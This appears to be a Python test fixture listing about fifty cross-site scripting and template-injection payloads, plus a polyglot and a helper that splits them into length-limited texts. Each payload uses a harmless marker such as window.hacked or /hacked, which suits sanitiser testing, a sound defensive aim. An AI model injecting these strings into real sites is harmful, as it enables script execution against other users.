"""XSS payloads."""

# Each would set `window.hacked`, show a dialog or ask for /hacked.
PAYLOADS = [
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=/hacked></SCRIPT>",
    "</script><script>window.hacked=1</script>",
    "</title><script>window.hacked=1</script>",
    "</textarea><script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script>",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "<img src=x onerror=window.hacked=1>",
    "<img src=x onerror='alert(1)'>",
    '"><img src=x onerror=window.hacked=1>',
    "'><img src=x onerror=window.hacked=1>",
    "<img src=/hacked>",
    "<image/src/onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=window.hacked=1></mtext></math>",
    "<body onload=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<select autofocus onfocus=window.hacked=1>",
    "<textarea autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<audio src=x onerror=window.hacked=1>",
    "<marquee onstart=window.hacked=1>",
    "<iframe src=/hacked></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=/hacked></object>",
    "<embed src=/hacked>",
    "<link rel=stylesheet href=/hacked>",
    "<style>@import '/hacked';</style>",
    "<base href=/hacked/>",
    "<meta http-equiv=refresh content='0;url=/hacked'>",
    "<form action=/hacked><button autofocus>x</button></form>",
    '" autofocus onfocus="window.hacked=1',
    "' autofocus onfocus='window.hacked=1",
    "` onerror=window.hacked=1",
    "';window.hacked=1;//",
    '";window.hacked=1;//',
    "\\';window.hacked=1;//",
    "javascript:window.hacked=1",
    " javascript:window.hacked=1//http://x.example/",
    "data:text/html,<script>parent.hacked=1</script>",
    "<a href=javascript:window.hacked=1 autofocus>x</a>",
    "<div x-data x-init='window.hacked=1'></div>",
    "' x-init='window.hacked=1",
    "<div hx-get=/hacked hx-trigger=load></div>",
    "{{constructor.constructor('window.hacked=1')()}}",
    "{{ request.user.password }}{% include 'hacked' %}",
    "${window.hacked=1}",
    "&#60;script>window.hacked=1&#60;/script>",
    "\u202e<img src=x onerror=window.hacked=1>\ufffd",
    "https://x.example/\"onmouseover='window.hacked=1'",
]

# Breaks out of several contexts at once; short enough for every field.
POLYGLOT = "\"'></title></script><img src=x onerror=window.hacked=1>{{7*7}}{% x %}"


def lines(size: int) -> list[str]:
    """All payloads, joined into texts of at most `size` characters."""
    texts = [""]
    for payload in PAYLOADS:
        if len(texts[-1]) + len(payload) + 1 > size:
            texts.append("")
        texts[-1] += f" {payload}"
    return [text.strip() for text in texts]
